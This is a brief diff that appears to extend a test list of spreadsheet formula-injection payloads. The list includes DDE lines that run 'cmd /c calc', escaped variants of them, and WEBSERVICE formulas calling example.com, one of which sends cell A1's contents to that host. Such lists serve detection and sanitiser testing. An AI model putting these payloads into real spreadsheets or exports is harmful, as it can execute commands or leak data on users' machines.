@@ -15,6 +15,8 @@ cmd|'/c calc'!A0
 DDE|'a b'!c
 excel|'\\host\[a.xls]S'!R1C1
 cmd_x007c_'/c calc'!A0
+cmd_x007c_a!A0
+WEBSERVICE_x0028_"http://example.com")
 WEBSERVICE("http://example.com/?a="&A1)
 _xlfn.WEBSERVICE("http://example.com")
 _xlfn.WEBSERVICE ("http://example.com")
